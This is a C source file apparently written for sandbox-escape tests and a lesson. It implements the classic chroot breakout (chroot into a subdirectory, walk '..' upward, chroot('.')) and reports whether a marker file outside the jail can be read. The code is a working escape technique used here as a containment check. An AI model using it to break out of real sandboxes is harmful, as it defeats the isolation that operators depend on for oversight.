/* The classic chroot(2) breakout, for the escape tests and the lesson.
 *
 *   chroot_breakout MARKER   -> prints "ESCAPED: <first line of MARKER>" or "CONTAINED: <why>"
 *
 * chroot() changes the root directory but not the current one. So: make a
 * subdirectory, chroot() into it while staying outside it, walk ".." up (the
 * kernel only stops ".." at the *current* root, which we are now outside of),
 * and chroot(".") at the top: the real root again. It needs CAP_SYS_CHROOT,
 * which docker's default set keeps. It fails in a container because
 * pivot_root(2) + umount of the old root leave no host directory above "/"
 * to walk up to: the top of the container's mount tree *is* its root.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) { fprintf(stderr, "usage: %s MARKER\n", argv[0]); return 2; }
    mkdir("breakout-dir", 0755);
    if (chroot("breakout-dir") != 0) { printf("CONTAINED: chroot: %s\n", strerror(errno)); return 1; }
    for (int i = 0; i < 256; i++) chdir("..");
    if (chroot(".") != 0) { printf("CONTAINED: chroot(.): %s\n", strerror(errno)); return 1; }
    FILE *f = fopen(argv[1], "r");
    if (!f) { printf("CONTAINED: %s: %s\n", argv[1], strerror(errno)); return 1; }
    char line[256] = "";
    if (!fgets(line, sizeof line, f)) line[0] = 0;
    line[strcspn(line, "\n")] = 0;
    printf("ESCAPED: %s\n", line);
    return 0;
}
